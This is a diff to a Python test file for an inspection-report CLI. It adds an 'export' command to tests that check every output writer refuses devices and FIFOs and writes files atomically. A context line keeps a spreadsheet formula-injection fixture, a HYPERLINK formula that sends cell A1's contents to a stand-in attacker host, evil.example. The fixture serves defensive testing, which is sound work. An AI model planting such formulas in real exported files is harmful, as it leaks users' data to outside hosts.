@@ -26,6 +26,7 @@ from inspector.services import branches, photos
 from inspector.services import inspections as svc
 from inspector.textsafe import is_formula_like, spreadsheet_text
 from tests.conftest import PHOTOS, Cli
+from tests.integration.conftest import make_finalized
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 HOSTILE_REGION = "=1+1"
@@ -231,9 +232,10 @@ def test_ulimit_f_leaves_existing_file(tmp_path: Path) -> None:
     assert [p.name for p in tmp_path.iterdir()] == ["hq.xlsx"]
 
 
-def _commands(uuid: str, photo_id: str, out: str) -> list[list[str]]:
+def _commands(uuid: str, photo_id: str, out: str, final: str) -> list[list[str]]:
     return [
         ["report", uuid, "-o", out],
+        ["export", final, "-o", out],
         ["hq", "report", "-o", out],
         ["hq", "export", "-o", out],
         ["photo", "get", photo_id, "-o", out],
@@ -246,12 +248,13 @@ def test_every_cli_writer_refuses_a_device_or_fifo(
     db: Database, run_cli: Cli, tmp_path: Path
 ) -> None:
     uuid = _hostile_db(db)
+    final = make_finalized(db)
     with db.read_session() as s:
         photo_id = svc.get(s, uuid).photos[0].id
     fifo = tmp_path / "fifo"
     os.mkfifo(fifo)
     for target in ["/dev/full", str(fifo)]:
-        for args in _commands(uuid, photo_id, target):
+        for args in _commands(uuid, photo_id, target, final):
             r = run_cli(*args)
             assert r.exit_code == 1, (args, r.output)
             assert r.stderr.startswith(f"error: {target}: is a "), (args, r.stderr)
@@ -263,9 +266,10 @@ def test_every_cli_writer_is_atomic_and_follows_umask(
     db: Database, run_cli: Cli, tmp_path: Path, umask_022: None
 ) -> None:
     uuid = _hostile_db(db)
+    final = make_finalized(db)
     with db.read_session() as s:
         photo_id = svc.get(s, uuid).photos[0].id
-    for i, args in enumerate(_commands(uuid, photo_id, "OUT")):
+    for i, args in enumerate(_commands(uuid, photo_id, "OUT", final)):
         out = tmp_path / f"out{i}"
         out.write_bytes(b"old")
         run_cli.ok(*[str(out) if a == "OUT" else a for a in args])
